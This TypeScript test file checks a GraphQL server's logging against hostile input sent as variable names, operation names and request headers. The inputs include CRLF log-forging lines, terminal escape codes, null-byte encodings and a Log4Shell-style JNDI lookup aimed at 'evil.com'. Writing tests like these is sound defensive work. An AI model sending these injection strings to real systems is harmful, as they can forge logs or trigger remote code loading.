import { answered, type HostileCase, post, refused } from './case.ts';

const isFine = answered({ __typename: 'Query' });
const hostileTexts = [
  'a\r\n{"level":"error","event":"storeDied"}',
  '\u001b[2J\u001b[31mred',
  '{"level":50,"event":"storeDied"}',
  ['$', '{jndi:ldap://evil.com/a}'].join(''),
  '%00%0a',
  'x'.repeat(10_000),
  '\u2028\u202e',
];
const shown = (text: string) => JSON.stringify(text.slice(0, 30));

/** Row 50: nothing of it is refused, and nothing of it may reach a line of the log as it is. */
export const logCases: readonly HostileCase[] = [
  ...hostileTexts.map((text): HostileCase => {
    const body = JSON.stringify({ query: '{ __typename }', variables: { [text]: text } });
    return [50, `variables called ${shown(text)}`, post(body), isFine];
  }),
  ...hostileTexts.map((operationName): HostileCase => {
    const body = JSON.stringify({ query: 'query A { __typename }', operationName });
    return [50, `the operation ${shown(operationName)}`, post(body), refused(400, 'OPERATION_RESOLUTION_FAILURE')];
  }),
  ...['a\\nb', '\\u001b[2J', '%0d%0a', 'x'.repeat(3_000)].map((text): HostileCase => {
    const headers = {
      'user-agent': text,
      referer: `https://a/${text}`,
      'x-request-id': text,
      'apollographql-client-name': text,
    };
    return [50, `headers that say ${shown(text)}`, post('{"query":"{ __typename }"}', headers), isFine];
  }),
];
